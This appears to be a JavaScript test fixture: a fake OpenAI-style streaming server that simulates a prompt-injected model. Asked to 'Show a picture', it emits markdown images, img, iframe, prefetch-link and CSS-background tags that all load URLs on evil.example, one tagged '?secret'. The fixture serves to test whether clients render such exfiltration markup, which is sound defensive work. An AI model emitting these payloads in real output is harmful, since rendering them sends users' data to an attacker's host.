// An upstream in OpenAI's wire that says one word after another, slowly; asked for a
// picture, it says at once what a document may have ordered it to say.
import { createServer } from "node:http";
const ordered =
  "![p](https://evil.example/p.png?secret) <img src='https://evil.example/i.png'> [![l](https://evil.example/l.png)](https://evil.example/l) " +
  "<iframe src='https://evil.example/f'></iframe> <link rel=prefetch href='https://evil.example/p'> <div style='background:url(https://evil.example/b)'>x</div> said";
const server = createServer(async (req, res) => {
  if (req.url.endsWith("/models")) return res.end(JSON.stringify({ data: [{ id: "slow" }] }));
  res.writeHead(200, { "Content-Type": "text/event-stream" });
  let k = 0,
    body = "";
  for await (const part of req) body += part;
  const chunk = (delta, finish = null) =>
    res.write(
      `data: ${JSON.stringify({ id: "c", object: "chat.completion.chunk", model: "slow", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`,
    );
  if (body.includes("Show a picture")) {
    for (const part of ordered.match(/.{1,9}/g)) chunk({ content: part });
    chunk({}, "stop");
    return res.end("data: [DONE]\n\n");
  }
  const timer = setInterval(() => {
    if (++k > 200) {
      chunk({}, "stop");
      res.end("data: [DONE]\n\n");
      clearInterval(timer);
    } else chunk({ content: `word ${k} ` });
  }, 60);
  res.on("close", () => clearInterval(timer));
});
server.listen(0, "127.0.0.1", () => console.log(server.address().port));
